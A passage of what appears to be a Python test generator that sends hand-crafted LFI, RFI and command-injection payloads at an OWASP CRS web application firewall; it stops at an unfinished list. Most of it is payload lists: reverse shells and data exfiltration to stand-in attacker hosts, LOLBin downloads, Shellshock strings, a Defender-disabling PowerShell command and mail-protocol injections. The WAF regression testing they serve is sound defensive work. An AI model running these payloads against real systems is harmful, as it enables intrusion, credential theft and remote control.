"""Blind positive tests for the CRS 3.3.4 request rules of the RCE, LFI and RFI families (930100-932200, paranoia
levels 1-2) and the request-rule titles CRS 4.x added at levels 1-2, written from the rule titles alone.

The angle: a penetration tester's second and third choice. For each title the obvious payload (../../etc/passwd,
;cat /etc/passwd, powershell IEX, http://1.2.3.4/shell.txt?) is taken as already blocked, and what is written here
is what is typed by hand next: the lesser-known synonym of the command, function, file, scheme or gadget that does
the same job, other grammar the target still accepts (other separators, quoting, clause orders, encodings, ways to
end a statement), and payloads cut down to as few characters as possible. Every payload carries a comment naming
the real target it works against (bash/dash, cmd.exe, PowerShell, PHP include(), IIS, Tomcat, Apache mod_cgi,
sqlite3's shell, an SMTP/IMAP/POP3 dialogue).

Families and sub-families (one sub-family per title, 8 to 12 payloads each):
- lfi: path-traversal-encoded (930100), path-traversal-dotdot (930110), os-file-access (930120),
  restricted-file-access (930130); 4.x: os-file-access-in-headers, path-traversal-triple-dot.
- rfi: rfi-url-ip-address (931100), rfi-common-param-name (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain-link (931130, PL2).
- rce: unix-command-injection (932100), unix-command-injection-more-commands (932105), windows-command-injection
  (932110), windows-command-injection-more-commands (932115), windows-powershell-command (932120),
  unix-shell-expression (932130), windows-for-if-command (932140), direct-unix-command-execution (932150),
  unix-shell-code (932160), shellshock (932170), shellshock-args (932171), restricted-file-upload (932180),
  rce-bypass-technique (932200, PL2); 4.x: unix-command-injection-no-evasion, unix-command-injection-evasion,
  unix-shell-alias-invocation, unix-shell-history-invocation, unix-command-pipes-short-commands,
  sqlite-system-command, smtp-command, imap-command, pop3-command, windows-command-injection-evasion,
  unix-shell-code-in-headers, direct-unix-command-absolute-path.

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
admin search form (with csrf_token), the JSON of /api/users, a cookie, the User-Agent, the Referer, a custom
header, a parameter name, an XML body, a multipart field or file name and the URL path. Once the way a WAF's
regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post,
/search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent,
the Referer, a custom header or a cookie. Titles bound to one input (Shellshock in headers, shell code and OS files
in headers, file names of uploads, RFI parameter names) keep to the placements their title names; payloads with
CR or LF never go into a header.

The benign half carries the same words innocently: Slack messages and bios of developers and admins talking about
shells, PowerShell, paths and mail servers, documentation links, admin-panel prose, searches, names and addresses,
and ordinary file uploads.

Authorship and independence: written from general knowledge and the rule titles alone; no rule, ruleset
regression test, engine source or public payload list was read. Measured once on unchanged code, with no payload
changed after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredtwentyfifth"

# --------------------------------------------------------------------------------------------------------------
# LFI
# --------------------------------------------------------------------------------------------------------------

# 930100 Path Traversal Attack (/../): the encoded forms, sent raw (the percent signs are the payload).
PATH_TRAVERSAL_ENCODED = [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",  # PHP include($_GET[...]) after PHP's one urldecode, Linux
    "..%2f..%2f..%2f..%2fetc%2fgroup",  # Flask send_file() on a decoded path parameter, Linux
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",  # PHP readfile(), Linux procfs
    "..%252f..%252f..%252fetc%252fissue",  # PHP app that calls urldecode() again (double decode), Linux
    "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini",  # ASP.NET handler decoding twice on IIS
    "..%c0%af..%c0%af..%c0%afetc/hostname",  # overlong UTF-8 '/', Tomcat < 6.0.18 / old Java decoders
    "..%c1%9c..%c1%9cwinnt/win.ini",  # IIS 5 overlong '\\' (the Nimda-era unicode bug)
    "%u002e%u002e%u005c%u002e%u002e%u005cwindows%u005cwin.ini",  # IIS %u decoding
    "..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config",  # IIS / ASP.NET: encoded backslash separator
    ".%2e/.%2e/.%2e/.%2e/etc/shells",  # Apache httpd 2.4.49 CVE-2021-41773 path normalisation
    "%2e%2e%5c%2e%2e%5cwindows%5csystem.ini",  # PHP include() on Windows
    "..%255c..%255c..%255cboot.ini",  # IIS 6 double decode, Windows Server 2003
]

# 930110 Path Traversal Attack (/../): the decoded forms a filter that strips "../" lets through.
PATH_TRAVERSAL_DOTDOT = [
    r"..\..\..\windows\win.ini",  # PHP include() on Windows: backslash separator
    "....//....//....//etc/hosts",  # PHP str_replace('../', '', $f) single pass leaves ../
    "..././..././..././etc/group",  # same single-pass strip, other shape
    r"..\/..\/..\/windows\win.ini",  # Windows file APIs accept mixed and doubled separators
    "/var/www/html/../../../etc/os-release",  # Java/PHP startsWith('/var/www') check, then open(), Linux
    "./.././.././../etc/hostname",  # Linux open(): ./ noise between the climbs
    "..//..//..//etc//shells",  # Linux open(): doubled separators
    "/..;/..;/WEB-INF/web.xml",  # Tomcat behind a proxy: ..; is a path parameter to the proxy, .. to Tomcat
    "uploads/../../../../proc/self/cmdline",  # Node path.join(uploadDir, name) then fs.readFile
    "../../../../../../../../../../etc/motd",  # climb past an unknown web root depth, Linux
    r"..\..\..\..\boot.ini",  # IIS 6 / classic ASP FileSystemObject on Windows Server 2003
    r"..\..\..\inetpub\logs\LogFiles\W3SVC1\u_ex240101.log",  # ASP.NET File.ReadAllText, IIS log poisoning
]

# 930120 OS File Access Attempt: the files read after /etc/passwd is blocked.
OS_FILE_ACCESS = [
    "/etc/shadow",  # PHP readfile() running as root (misconfigured php-fpm pool), Linux
    "/proc/self/environ",  # PHP include(): environment of the worker (LFI to RCE via User-Agent)
    "/etc/gshadow",  # Linux
    "/root/.ssh/authorized_keys",  # Linux, service running as root
    "/home/ubuntu/.bash_history",  # Ubuntu cloud image default user
    r"c:\windows\system32\drivers\etc\hosts",  # PHP/ASP.NET file read on Windows
    "/var/log/apache2/access.log",  # PHP include() log poisoning, Debian Apache
    "/etc/mysql/my.cnf",  # Debian MySQL config
    "/proc/self/cmdline",  # Linux procfs
    "/etc/sudoers",  # Linux
    r"C:\Windows\repair\SAM",  # Windows XP / 2003 SAM backup
    "/etc/crontab",  # Linux
]

# 930130 Restricted File Access Attempt: the files fetched after .git/config and .env are blocked.
RESTRICTED_FILE_ACCESS = [
    "/.git/logs/HEAD",  # nginx/Apache serving the docroot with a .git directory
    ".svn/wc.db",  # Subversion 1.7+ working copy database
    "/.hg/store/00manifest.i",  # Mercurial repository in the docroot
    ".bzr/branch/branch.conf",  # Bazaar branch
    "/CVS/Root",  # CVS checkout
    "/.htpasswd",  # Apache basic-auth file without a deny rule
    ".user.ini",  # PHP-FPM per-directory ini
    "/web.config",  # IIS site config served as static by a non-IIS server
    "/.DS_Store",  # macOS Finder metadata uploaded with the site
    "WEB-INF/web.xml",  # Java servlet container file read through a download parameter
    "/.aws/credentials",  # home directory used as docroot
    ".git-credentials",  # git credential store in the deploy user's home
]

# 4.x OS File Access Attempt in REQUEST_HEADERS: file names in headers an app turns into paths.
OS_FILE_ACCESS_HEADERS = [
    "/etc/group",  # PHP include('lang/'.$_SERVER['HTTP_ACCEPT_LANGUAGE']) with absolute path accepted
    "/proc/self/status",  # Linux procfs
    "/etc/hostname",  # Linux
    "/var/run/secrets/kubernetes.io/serviceaccount/token",  # Kubernetes pod
    "/etc/issue.net",  # Linux
    r"c:\windows\system.ini",  # Windows
    "/proc/version",  # Linux
    "/etc/master.passwd",  # FreeBSD / OpenBSD
    "/etc/resolv.conf",  # Linux
    "/root/.bashrc",  # Linux
    "/etc/apache2/apache2.conf",  # Debian Apache
    "/proc/net/tcp",  # Linux procfs
]

# 4.x Path Traversal Attack (/../) or (/.../): triple and quadruple dots.
PATH_TRAVERSAL_TRIPLE_DOT = [
    "/.../.../.../etc/hosts",  # embedded HTTP servers that read ... as ../.. (router firmware class)
    ".../.../.../.../boot.ini",  # Windows 98 Personal Web Server: ... is two levels up
    r"...\...\windows\win.ini",  # Windows 9x, backslash form
    "/.../.../proc/self/environ",  # embedded Linux web server collapsing ...
    "....//....//....//etc/hostname",  # PHP one-pass str_replace('../', '') turns ....// into ../
    "/././.../.../etc/hosts",  # ./ noise before the dots, embedded server
    "static/.../.../.../etc/shadow",  # embedded static handler under a subdirectory
    r"..\..\...\...\windows\system.ini",  # Windows 9x, two and three dots mixed
    "/....//....//etc/hosts",  # PHP one-pass strip of ../
    r"...\...\...\autoexec.bat",  # Windows 9x
    "/.../.../.../.../windows/system.ini",  # Windows 9x, forward slashes
    "files/.../.../.../etc/issue",  # embedded Linux web server
]

# --------------------------------------------------------------------------------------------------------------
# RFI (targets: PHP include()/require() with allow_url_include=On, or an old app with register_globals)
# --------------------------------------------------------------------------------------------------------------

# 931100 URL Parameter using IP Address: other schemes and other spellings of the address.
RFI_URL_IP = [
    "ftp://198.51.100.23/shell.txt",  # PHP ftp:// wrapper
    "https://203.0.113.45:8443/x.php",  # PHP https wrapper, non-standard port
    "ftps://203.0.113.9/inc.txt",  # PHP ftps:// wrapper (OpenSSL build)
    "HTTP://203.0.113.77/a.txt",  # PHP wrapper names are case-insensitive
    "http://203.0.113.12:80/r57.txt?",  # explicit port
    "http://[2001:db8::5]/shell.txt",  # IPv6 literal, PHP http wrapper
    "http://3405803785/shell.txt",  # decimal IPv4 (203.0.113.9), resolved by the C library
    "http://0xcb007109/x.txt",  # hex IPv4, inet_aton accepts it
    "http://user@198.51.100.3/x.txt",  # userinfo before the address
    "ftp://anonymous:x@203.0.113.5/pub/x.php",  # anonymous FTP
    "https://198.51.100.200/wso.php?",  # https, trailing ?
    "http://198.51.100.7/c99.txt%00",  # pre-5.3.4 PHP: NUL cuts the appended .php
]

# 931110 Common RFI Vulnerable Parameter Name used w/URL Payload: the whole name=value pair, sent raw.
RFI_PARAM_NAME = [
    "mosConfig_absolute_path=http://attacker.example/shell.txt?",  # Mambo 4.5 / Joomla 1.0 components
    "phpbb_root_path=ftp://attacker.example/pub/",  # phpBB 2 mods with register_globals
    "_CONF[path]=https://attacker.example/inc/",  # Geeklog 1.x
    "GALLERY_BASEDIR=http://attacker.example/g/",  # Gallery 1.x init.php
    "path[docroot]=https://attacker.example/d/",  # PHP app reading $path['docroot'] from the request
    "appserv_root=http://attacker.example/a/",  # AppServ main.php
    "config[root_dir]=ftp://attacker.example/r/",  # PHP app with $config['root_dir'] and register_globals
    "_SERVER[DOCUMENT_ROOT]=http://attacker.example/x/",  # register_globals overwriting $_SERVER
    "includedir=https://attacker.example/inc.txt?",  # PHP app include($includedir.'/x.php')
    "ABSPATH=http://attacker.example/wp/",  # old WordPress plugins including ABSPATH with register_globals
    "mosConfig_live_site=https://attacker.example/",  # Mambo components
    "include_path=ftp://attacker.example/lib/",  # PHP app include($include_path.'db.php')
]

# 931120 URL Payload Used w/Trailing Question Mark Character (?)
RFI_TRAILING_QMARK = [
    "ftp://attacker.example/pub/shell.txt?",  # PHP ftp:// wrapper: ? turns the appended .php into a query
    "https://attacker.example/c99.txt??",  # PHP https wrapper
    "http://attacker.example/r57?",  # shortest path
    "HTTPS://ATTACKER.EXAMPLE/WSO.TXT?",  # wrapper and host case-insensitive
    "http://attacker.example:8080/inc?",  # non-standard port
    "ftps://files.attacker.example/a?",  # ftps wrapper
    "http://attacker.example/shell.gif?",  # image extension to pass an extension allow-list
    "https://paste.attacker.example/raw/Xy12?",  # raw paste service
    "http://attacker.example/?",  # index of the attacker's server
    "ftp://attacker.example/x?",  # ftp, shortest
    "http://attacker.example/p.txt???",  # several question marks
    "https://attacker.example/k.txt?&",  # ? then & : the appended .php becomes a parameter
]

# 931130 Off-Domain Reference/Link (PL2)
RFI_OFF_DOMAIN = [
    "https://evil.example.net/payload.php",  # PHP include() with allow_url_include=On
    "ftp://files.evil.example/x.php",  # PHP ftp:// wrapper
    "http://attacker.example/shell.txt#",  # fragment: the appended .php is never sent
    "https://gist.attacker.example/raw/a.php",  # raw gist-like host
    "http://attacker.example:8000/",  # python -m http.server on the attacker's side
    "ftps://attacker.example/inc.php",  # ftps wrapper
    "https://localhost.attacker.example/x.txt",  # host name that fools a naive 'localhost' allow-list
    "HtTp://attacker.example/z.txt",  # mixed-case scheme
    "https://attacker.example/a.txt/",  # trailing slash: .php appended as a path segment the server ignores
    "https://raw.attacker.example/x/y/shell.php",  # raw file host
    "http://attacker.example/w.php?x=",  # appended .php becomes x's value
    "ftp://anonymous@attacker.example/p.txt",  # anonymous ftp userinfo
]

# --------------------------------------------------------------------------------------------------------------
# RCE (targets: a value handed to system()/popen()/exec via sh -c on Linux, or cmd.exe /c on Windows)
# --------------------------------------------------------------------------------------------------------------

# 932100 Unix Command Injection: a separator and a command other than cat, id, whoami.
UNIX_CMD_INJECTION = [
    ";head -c 200 /etc/hostname",  # sh -c via PHP system()
    "|sort /etc/hosts",  # sh: pipe, sort prints the file
    "&&paste /etc/group",  # sh: and-list
    "||getent passwd root",  # sh: or-list, glibc getent
    ";busybox id",  # busybox images (Alpine)
    "&printenv",  # sh: background separator then printenv
    ";more /etc/issue",  # sh
    "|hexdump -C /etc/hostname",  # sh, util-linux hexdump
    ";sed -n 1p /etc/hostname",  # sh, sed as a file reader
    "\nps aux",  # sh: newline ends the first command
    "|xxd /etc/hosts",  # sh, vim's xxd
    ";last -n 3",  # sh, wtmp reader
]

# 932105 Unix Command Injection: more commands after a separator.
UNIX_CMD_INJECTION_MORE = [
    ";dig +short attacker.example",  # sh, DNS exfiltration check
    "|nslookup attacker.example",  # sh
    ";ip addr",  # sh, iproute2
    "&&ifconfig -a",  # sh, net-tools
    ";netstat -antp",  # sh
    "|ss -tlnp",  # sh, iproute2
    ";lsof -i",  # sh
    ";crontab -l",  # sh
    "||find / -perm -4000",  # sh, SUID search
    ";sudo -l",  # sh
    "&&perl -e 'exec \"sh\"'",  # sh, perl
    ";php -r 'system(\"id\");'",  # sh, PHP CLI
]

# 932110 Windows Command Injection: cmd.exe commands other than whoami and dir.
WIN_CMD_INJECTION = [
    "&ver",  # cmd.exe /c via ASP.NET Process.Start or PHP system() on Windows
    "|systeminfo",  # cmd.exe
    "&&set",  # cmd.exe: environment
    "|net localgroup administrators",  # cmd.exe
    "&ipconfig /all",  # cmd.exe
    "&tasklist /v",  # cmd.exe
    r"|type C:\inetpub\wwwroot\web.config",  # cmd.exe on IIS
    r"&& dir C:\Users",  # cmd.exe
    r"|reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion",  # cmd.exe
    "&certutil -urlcache -f http://attacker.example/a.exe a.exe",  # cmd.exe, LOLBin download
    "|wmic os get caption",  # cmd.exe, WMIC (before Windows 11 24H2)
    "&nltest /dclist:",  # cmd.exe on a domain member
]

# 932115 Windows Command Injection: more cmd.exe commands and LOLBins.
WIN_CMD_INJECTION_MORE = [
    r"&bitsadmin /transfer j http://attacker.example/a.exe %TEMP%\a.exe",  # cmd.exe, BITS download
    "|rundll32.exe shell32.dll,ShellExec_RunDLL calc",  # cmd.exe, rundll32
    "&mshta http://attacker.example/a.hta",  # cmd.exe, mshta
    "&regsvr32 /s /n /u /i:http://attacker.example/a.sct scrobj.dll",  # cmd.exe, Squiblydoo
    "|schtasks /query /fo LIST",  # cmd.exe
    "&sc query",  # cmd.exe, service control
    "&&net1 user",  # cmd.exe: net1 is net's twin
    "|qwinsta",  # cmd.exe, sessions
    r"&cscript //nologo %TEMP%\a.vbs",  # cmd.exe, Windows Script Host
    "|findstr /si secret *.config",  # cmd.exe
    "&forfiles /p c:\\windows /m notepad.exe /c calc",  # cmd.exe, forfiles as a launcher
    "&start /b calc",  # cmd.exe builtin start
]

# 932120 Windows PowerShell Command Found
POWERSHELL = [
    r"pwsh -c Get-ChildItem C:\Users",  # PowerShell 7 from cmd.exe
    "powershell -enc dwBoAG8AYQBtAGkA",  # 'whoami' as UTF-16LE base64, Windows PowerShell 5.1
    "powershell -c Invoke-WebRequest -Uri http://attacker.example/a -OutFile a.exe",  # PowerShell 3+
    "powershell Start-Process calc.exe",  # Windows PowerShell
    r"; powershell Get-Content C:\Windows\win.ini",  # PowerShell after a cmd separator
    "| powershell.exe -c \"Invoke-Expression (iwr http://attacker.example/a -UseBasicParsing)\"",  # PS 3+
    "& powershell Get-WmiObject Win32_Process",  # Windows PowerShell 5.1
    "powershell -ep bypass -c Set-MpPreference -DisableRealtimeMonitoring $true",  # Defender, admin shell
    "powershell [System.Net.WebClient]::new().DownloadFile('http://attacker.example/a','a.exe')",  # PS 5+
    "& pwsh -nop -c Get-Process",  # PowerShell 7
    "powershell -c Invoke-Command -ScriptBlock {hostname}",  # Windows PowerShell
    r"powershell -c Remove-Item -Recurse C:\inetpub\logs",  # Windows PowerShell on IIS
]

# 932130 Unix Shell Expression Found
UNIX_SHELL_EXPRESSION = [
    "$(</etc/hostname)",  # bash: read a file with no command at all
    "<(id)",  # bash process substitution, as an argument
    ";echo id > >(sh)",  # bash output process substitution feeding sh
    "`uname -n`",  # sh backticks
    "$(tr a-z A-Z</etc/hostname)",  # sh command substitution
    "${PATH:0:1}etc${PATH:0:1}hosts",  # bash substring expansion builds /etc/hosts
    "$(sh<<<id)",  # bash here-string
    "a=$(hostname);echo $a",  # sh assignment then expansion
    "$(<.env)",  # bash: dotenv next to the app
    "`</etc/issue`",  # bash: backtick form of $(<file)
    "$($(printf '\\151\\144'))",  # sh: printf octal builds 'id', outer $() runs it
    "$(($(id -u)+0))",  # sh arithmetic around a command substitution
]

# 932140 Windows FOR/IF Command Found
WIN_FOR_IF = [
    "for /f \"delims=\" %i in ('whoami') do @echo %i",  # cmd.exe /c, interactive %i form
    "&for /r C:\\inetpub %f in (*.config) do @type \"%f\"",  # cmd.exe recursive for
    "for /l %i in (1,1,5) do ping -n 1 10.0.0.%i",  # cmd.exe counting loop
    "|for /d %d in (C:\\Users\\*) do @dir %d",  # cmd.exe directory loop
    r"if exist C:\inetpub\wwwroot\web.config type C:\inetpub\wwwroot\web.config",  # cmd.exe if exist
    "&if defined USERNAME echo %USERNAME%",  # cmd.exe if defined
    r"if not exist %TEMP%\a.exe certutil -urlcache -f http://attacker.example/a.exe %TEMP%\a.exe",  # cmd.exe
    "&IF %ERRORLEVEL% EQU 0 net user",  # cmd.exe comparison form
    "for %x in (a b) do @hostname",  # cmd.exe plain for
    "&&for /F \"tokens=*\" %a in ('dir /b') do @echo %a",  # cmd.exe upper-case switch
    "if \"%OS%\"==\"Windows_NT\" ver",  # cmd.exe string compare
    "for /f %%a in ('ver') do set v=%%a",  # batch-file form with %% (a .bat the app writes and runs)
]

# 932150 Direct Unix Command Execution: the value itself is the command line.
DIRECT_UNIX_CMD = [
    "getent passwd",  # sh -c "$value"
    "hostname -I",  # sh, Debian hostname
    "busybox wget http://attacker.example/x -O /tmp/x",  # Alpine / embedded busybox
    "ncat 203.0.113.5 4444 -e /bin/bash",  # nmap's ncat
    "socat exec:sh tcp:203.0.113.5:4444",  # socat reverse shell
    "python3 -c 'import pty;pty.spawn(\"sh\")'",  # python3
    "perl -MIO -e 'system(\"id\")'",  # perl
    "ruby -e 'exec \"id\"'",  # ruby
    "lua -e 'os.execute(\"id\")'",  # lua
    "awk 'BEGIN{system(\"id\")}'",  # awk
    "printenv",  # coreutils
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=id",  # GNU tar
]

# 932160 Unix Shell Code Found: shells, /dev/tcp, chmod and friends.
UNIX_SHELL_CODE = [
    "/bin/dash -c id",  # Debian /bin/sh
    "/usr/bin/zsh -c 'id'",  # zsh
    "bash -i >& /dev/udp/203.0.113.5/53 0>&1",  # bash /dev/udp
    "exec 5<>/dev/tcp/203.0.113.5/80;cat <&5",  # bash /dev/tcp read loop
    "chmod 4755 /tmp/x",  # coreutils, SUID drop
    "/bin/busybox sh",  # busybox
    "/usr/bin/env sh -c id",  # env as launcher
    "/bin/ksh -c id",  # Korn shell
    "/bin/csh -c id",  # C shell
    "/usr/bin/python3 -c 'import os;os.system(\"id\")'",  # python3
    "/bin/tcsh -c id",  # tcsh
    "mkfifo /tmp/f;sh -i </tmp/f|nc 203.0.113.5 4444 >/tmp/f",  # named-pipe reverse shell, OpenBSD nc
]

# 932170 Shellshock (CVE-2014-6271) in headers and the request line: bash CGI under Apache mod_cgi.
SHELLSHOCK_HEADERS = [
    "() { _; } >_[$($())] { /usr/bin/id; }",  # CVE-2014-6278, bash <= 4.3 patch 26
    "() { :;}; echo; /usr/bin/id",  # Apache mod_cgi: echo first to end the CGI headers
    "() { x; }; /bin/ping -c1 203.0.113.5",  # blind check
    "() { ignored;}; /usr/bin/wget -qO /tmp/a http://attacker.example/a",  # dropper
    "() { :;}; exec 3<>/dev/tcp/203.0.113.5/80",  # bash /dev/tcp
    "() { (a)=>\\' /bin/bash -c 'echo date'",  # CVE-2014-7169 parser bug
    "() { 0; }; /bin/sleep 5",  # time-based
    "() { :a; }; /bin/bash -c id",  # other function body
    "() { true; }; /usr/bin/env",  # env dump
    "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",  # reverse shell
    "() { _;}; /usr/bin/curl http://attacker.example/$(id -u)",  # out-of-band
    "() { :; }; /bin/busybox telnetd -p 4444 -l /bin/sh",  # embedded devices with busybox CGI
]

# 932171 Shellshock (CVE-2014-6271) in arguments, argument names and file names: bash CGI exporting form fields.
SHELLSHOCK_ARGS = [
    "() { :;}; /bin/uname -a",  # bash CGI that exports form fields as environment variables
    "() {  :; }  ;  /bin/hostname",  # extra blanks are still a function definition
    "() { echo;}; /usr/bin/who",  # other body
    "() { f; }; /bin/ls /",  # other body
    "() { :; }; /usr/bin/printenv",  # env dump
    "() { a;};/usr/bin/nslookup attacker.example",  # no blank after the separator
    "() { :;}; /bin/sh -c 'id'",  # sh launcher
    "() { :;}; /usr/bin/tail /etc/hosts",  # file read
    "() { _; } >_[$($())] { /bin/hostname; }",  # CVE-2014-6278 in a field
    "() { :;}; /usr/bin/python3 -c 'print(1)'",  # python3
    "() { :;}; /bin/nc 203.0.113.5 4444 -e /bin/sh",  # traditional nc
    "() { :;}; /bin/echo vulnerable",  # the scanner's marker
]

# 932180 Restricted File Upload Attempt: file names that reconfigure the server or the shell.
RESTRICTED_UPLOAD = [
    ".user.ini",  # PHP-FPM: auto_prepend_file from the upload directory
    "web.config",  # IIS: handler mapping in the upload directory
    ".htaccess",  # Apache AllowOverride: AddType php for .jpg
    ".htpasswd",  # Apache basic-auth file replaced
    ".htdigest",  # Apache digest-auth file
    ".bashrc",  # upload into a home directory (file manager app)
    ".bash_profile",  # bash login shell
    ".profile",  # sh/dash login shell
    ".zshrc",  # zsh
    "authorized_keys",  # ~/.ssh upload through a path-joining file manager
    "php.ini",  # PHP CGI reads php.ini from the script directory
    "Web.Config",  # IIS is case-insensitive
]

# 932200 RCE Bypass Technique (PL2)
RCE_BYPASS = [
    r"c\at /etc/hostname",  # bash: backslash before an ordinary character vanishes
    'wh""oami',  # sh: empty quotes vanish
    "/???/c?t /???/gr?up",  # sh globbing resolves /bin/cat /etc/group
    "cat${IFS}/etc/hosts",  # sh: IFS as the blank
    "{cat,/etc/issue}",  # bash brace expansion
    "c$@at /etc/hosts",  # bash: empty $@
    "ca$()t /etc/hosts",  # sh: empty command substitution
    r"i\d",  # bash, shortest
    "/bin/c[a]t /etc/hosts",  # sh bracket glob
    r"un$u\ame -a",  # bash: unset variable and a backslash
    'ca""t</etc/hosts',  # sh: quotes and a redirect instead of a blank
    r"X=$'\x63\x61\x74';$X /etc/hosts",  # bash ANSI-C quoting
]

# 4.x Unix Command Injection (command without evasion)
UNIX_CMD_NO_EVASION = [
    ";lsb_release -a",  # sh on Debian/Ubuntu
    "|base64 /etc/hostname",  # sh, coreutils base64 as a reader
    "&&curl -sT /etc/hosts http://attacker.example/",  # sh, curl upload exfiltration
    ";wget --post-file=/etc/hosts http://attacker.example/",  # sh, wget exfiltration
    "|strings /etc/hostname",  # sh, binutils
    ";groups",  # sh
    "&&uptime",  # sh
    ";mount",  # sh
    ";df -h",  # sh
    ";who",  # sh
    "|date",  # sh
    ";finger",  # sh (finger installed)
]

# 4.x Unix Command Injection evasion attempt
UNIX_CMD_EVASION = [
    r";c\a\t /etc/hosts",  # bash backslashes
    ";ca''t /etc/hosts",  # sh empty single quotes
    "|who$()ami",  # sh empty command substitution
    ";{ls,-la,/}",  # bash brace expansion
    ";l${x}s -la",  # sh: unset variable
    "&&$'\\x69\\x64'",  # bash ANSI-C quoting spells id
    ";$(rev<<<'imaohw')",  # bash: reversed command name
    ";echo${IFS}aWQ=|base64${IFS}-d|sh",  # sh: base64 of 'id'
    r";u\n\a\m\e -a",  # bash backslashes
    ";/u?r/b?n/i?",  # sh globbing: /usr/bin/id
    ";w``hoami",  # sh empty backticks
    ';h"o"st"n"ame',  # sh double quotes inside the word
]

# 4.x Unix shell alias invocation
UNIX_ALIAS = [
    ";alias x=id\nx",  # dash (POSIX sh expands aliases non-interactively), next line uses it
    ";alias l='cat /etc/hosts'\nl",  # dash
    "|alias",  # sh: lists the aliases
    "&&alias -p",  # bash
    ";unalias -a;id",  # sh
    "$(alias s=sh)",  # sh
    ";alias ls='nc 203.0.113.5 4444 -e sh'",  # interactive bash of a web terminal
    ";shopt -s expand_aliases;alias y=uname\ny -a",  # bash non-interactive with expand_aliases
    "`alias w=who`",  # sh backticks
    r";\alias q=id",  # sh: backslash skips alias lookup of alias itself
    ";builtin alias z=id",  # bash builtin
    ";command alias c=id",  # sh command builtin
]

# 4.x Unix shell history invocation (interactive bash of a web terminal, or bash -i with histexpand)
UNIX_HISTORY = [
    ";history",  # bash interactive
    ";history -c",  # bash: clear the traces
    ";fc -l",  # bash/ksh history listing
    ";fc -ln -1",  # bash: last command
    "!!",  # bash history expansion: rerun the last command
    ";!-2",  # bash history expansion
    ";!ls",  # bash: last command starting with ls
    ";history | tail -n 20",  # bash
    ";export HISTFILE=/dev/null",  # bash: no history written
    ";unset HISTFILE",  # bash
    ";set +o history",  # bash
    ";HISTSIZE=0",  # bash
]

# 4.x Unix command injection with pipes / 2-3 letter commands
UNIX_PIPES_SHORT = [
    "|w",  # sh: who is logged in
    "|ps -ef",  # sh
    "|df",  # sh
    "|du -sh /",  # sh
    "|nl /etc/hosts",  # sh, coreutils nl as a reader
    "|od -c /etc/hostname",  # sh
    "|dd if=/etc/hostname",  # sh
    "|pr /etc/hosts",  # sh
    "|tac /etc/hosts",  # sh
    "|rev /etc/hostname",  # sh, util-linux
    "|sh",  # sh: the input becomes a script
    "|nc 203.0.113.5 80",  # sh, netcat exfiltration
]

# 4.x SQLite System Command Execution (sqlite3 command-line shell fed user input)
SQLITE_SYSTEM = [
    ".system id",  # sqlite3 shell
    ".shell uname -a",  # sqlite3 shell alias of .system
    ".load /tmp/evil.so",  # sqlite3 shell: load an extension
    ".output /var/www/html/x.php",  # sqlite3 shell: write query output into the docroot
    ".import /etc/hosts t",  # sqlite3 shell: read a file into a table
    ".read /tmp/x.sql",  # sqlite3 shell
    ".output |nc 203.0.113.5 4444",  # sqlite3 shell: output to a pipe
    "x\n.system id",  # sqlite3 shell: new line starts a dot-command
    ".cd /tmp",  # sqlite3 shell 3.32+
    ".backup /var/www/html/a.php",  # sqlite3 shell
    ".once |sh",  # sqlite3 shell: next result to a pipe
    "select load_extension('/tmp/evil.so','init');",  # SQLite with extension loading enabled
]

# 4.x SMTP Command Execution (a form field written into an SMTP dialogue)
SMTP = [
    "a@example.org\r\nRCPT TO:<victim@attacker.example>",  # SMTP client writing the field to the socket
    "x\r\nDATA\r\nSubject: hi\r\n\r\nbody\r\n.\r\n",  # SMTP: a whole extra message
    "\r\nMAIL FROM:<a@attacker.example>",  # SMTP
    "\r\nHELO attacker.example",  # SMTP
    "\r\nEHLO x",  # ESMTP
    "\r\nVRFY root",  # SMTP user probe
    "\r\nEXPN staff",  # SMTP list expansion
    "\r\nRSET",  # SMTP reset the transaction
    "\r\nAUTH LOGIN",  # ESMTP AUTH
    "\r\nBDAT 100 LAST",  # ESMTP CHUNKING
    "\r\nETRN example.org",  # SMTP remote queue start
    "\r\nQUIT",  # SMTP
]

# 4.x IMAP Command Execution (webmail passing a mailbox name to the IMAP server)
IMAP = [
    "INBOX\r\nA1 SELECT INBOX",  # IMAP4rev1
    "\r\nA2 FETCH 1:* (BODY[])",  # IMAP: dump every message
    "\r\na3 LIST \"\" \"*\"",  # IMAP
    "\r\nA4 STORE 1:* +FLAGS (\\Deleted)",  # IMAP
    "\r\nA5 EXPUNGE",  # IMAP
    "\r\nA6 COPY 1:* Trash",  # IMAP
    "\r\nA7 UID SEARCH ALL",  # IMAP
    "\r\nA8 CAPABILITY",  # IMAP
    "\r\nA9 LOGOUT",  # IMAP
    "\r\nB1 AUTHENTICATE PLAIN",  # IMAP SASL
    "\r\nB2 EXAMINE INBOX",  # IMAP read-only select
    "\r\nB3 DELETE INBOX.Sent",  # IMAP
]

# 4.x POP3 Command Execution
POP3 = [
    "\r\nUSER admin",  # POP3
    "\r\nRETR 1",  # POP3
    "\r\nDELE 1",  # POP3
    "\r\nLIST",  # POP3
    "\r\nSTAT",  # POP3
    "\r\nTOP 1 10",  # POP3
    "\r\nUIDL",  # POP3
    "\r\nAPOP admin c4c9334bac560ecc979e58001b3e22fb",  # POP3 APOP (RFC 1939's example digest)
    "\r\nRSET",  # POP3
    "\r\nQUIT",  # POP3
    "\r\nCAPA",  # POP3 RFC 2449
    "\r\nAUTH PLAIN",  # POP3 SASL
]

# 4.x Windows Command Injection (cmd and PowerShell with evasions)
WIN_CMD_EVASION = [
